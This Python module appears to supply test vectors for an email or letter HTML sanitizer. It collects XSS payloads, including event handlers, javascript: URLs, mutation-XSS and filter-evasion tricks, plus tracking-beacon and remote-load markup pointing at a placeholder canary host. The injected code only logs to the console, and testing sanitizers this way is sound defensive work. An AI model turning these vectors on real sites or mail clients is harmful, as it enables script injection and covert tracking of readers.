"""What letters have been used for: to run scripts in their readers, or to learn that they were opened."""

from __future__ import annotations

import re

CANARY = "http://canary.example/"
# RUN says in the console that it ran; URL is an address of the canary. Both name the vector.
HANDLERS = """img src=x onerror|image src=x onerror|img src=x OnErRoR|svg onload|body onload|body onpageshow|
input autofocus onfocus|select autofocus onfocus|textarea autofocus onfocus|p tabindex=1 autofocus onfocus|
details open ontoggle|video src=x onerror|audio src=x onerror|video><source onerror|object data=x onerror|
style onload|link rel=stylesheet href=data:text/css, onload|iframe onload|embed src=data:, onload|
svg><animate attributeName=x dur=1s onbegin|svg><set attributeName=x onbegin|svg><image href=x onerror|
style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart|
video poster=x src=x onerror|object><img src=x onerror|table><td><img src=x onerror"""
_SPLIT = re.split(r"\|\n?", HANDLERS)
ACTIVE = [
    *(f"<{handler}=RUN>words" for handler in _SPLIT),
    # The same behind what filters stumble over: a slash for a space, the code in character references, no end.
    *(f"<{handler.replace(' ', '/')}='RUN'>words" for handler in _SPLIT if "data:" not in handler),
    *(f'<{handler}="ENTITIES">words' for handler in _SPLIT),
    *(f"<b <{handler}=RUN//" for handler in _SPLIT[:3]),
    "<script>RUN</script>",
    "<script type=module>RUN</script>",
    "<script src='data:text/javascript,RUN'></script>",
    "<scr<script>ipt>RUN</scr</script>ipt><script/x>RUN</script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,RUN'/></svg>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src='data:text/html,<script>RUN</script>'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<a href='javascript:RUN'>words</a>",
    "<a href='java&#9;script:RUN'>words</a>",
    "<a href=' &#1;JaVaScRiPt:RUN'>words</a>",
    "<svg><a href='javascript:RUN'><text y=20>words</text></a></svg>",
    "<form action='javascript:RUN'><button>words</button></form>",
    "<form><button formaction='javascript:RUN'>words</button></form>",
    "<form id=f></form><button form=f formaction='javascript:RUN'>words</button>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<title><a title='</title><img src=x onerror=RUN>'></title>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<img alt='x data-cid=' title=' onerror=RUN src=x'>",
    "<p>data-cid=\"</p><img alt='<img src=x onerror=RUN>' src=x onerror=RUN>",
    "<blockquote><i>quote-goes-here</i><img src=x onerror=RUN></blockquote>",
]
STYLES = """background:url(URL)|background-image:url("URL")|list-style:url(URL) inside;display:list-item|
border-image:url(URL) 1|border:1px solid;border-image-source:url(URL)|content:url(URL)|
shape-outside:url(URL);float:left|mask-image:url(URL)|background:image-set("URL" 1x)|background:\\75rl(URL)|
--a:url(URL);background:var(--a)|cursor:url(URL),auto|-webkit-mask:url(URL)"""
REMOTE = [
    *(f"<p style='{style}'>words</p>" for style in re.split(r"\|\n?", STYLES)),
    *(f"<style>p{{{style}}}</style><p>words" for style in re.split(r"\|\n?", STYLES)[:6]),
    "<style>@import 'URL';</style>",
    "<style>@font-face{font-family:f;src:url(URL)}p{font-family:f}</style><p>words",
    "<style>p::before{content:url(URL)}</style><p>words",
    *(f"<img {name}='URL'>" for name in ("src", "srcset", "SRC", "data-x='>' src")),
    "<img src='//canary.example/ID'><img src='http:\\\\canary.example/ID'>",
    "<img src='ht&#10;tp://canary.example/ID'>",
    "<picture><source srcset='URL'><img></picture>",
    "<input type=image src='URL'>",
    "<video src='URL'></video>",
    "<video poster='URL'></video>",
    "<audio preload=auto src='URL'></audio>",
    "<video><source src='URL'></video>",
    "<table background='URL'><td>words</table>",
    "<table><td background='URL'>words</table>",
    "<body background='URL'>words",
    "<svg><image href='URL' width=9 height=9 /></svg>",
    "<svg><image xlink:href='URL' width=9 height=9 /></svg>",
    "<svg><filter id=a><feImage href='URL'/></filter><rect width=9 height=9 filter='url(#a)'/></svg>",
    *(f"<link rel='{kind}' href='URL'>" for kind in ("stylesheet", "prefetch", "modulepreload", "preload' as='image")),
    "<script src='URL'></script>",
    "<iframe src='URL'></iframe>",
    "<frameset><frame src='URL'></frameset>",
    "<object data='URL'></object>",
    "<embed src='URL'>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href='http://canary.example/'><img src='ID'>",
    "<img alt='x data-cid=' title=' src=URL '>",
]  # fmt: skip


def _active(html: str, number: int) -> str:
    code = f"console.log(`ran-{number}`)"
    return html.replace("ENTITIES", "".join(f"&#{ord(char)};" for char in code)).replace("RUN", code)


VECTORS = [
    *(_active(html, number) for number, html in enumerate(ACTIVE)),
    *(html.replace("URL", f"{CANARY}{number}").replace("ID", str(number)) for number, html in enumerate(REMOTE)),
]
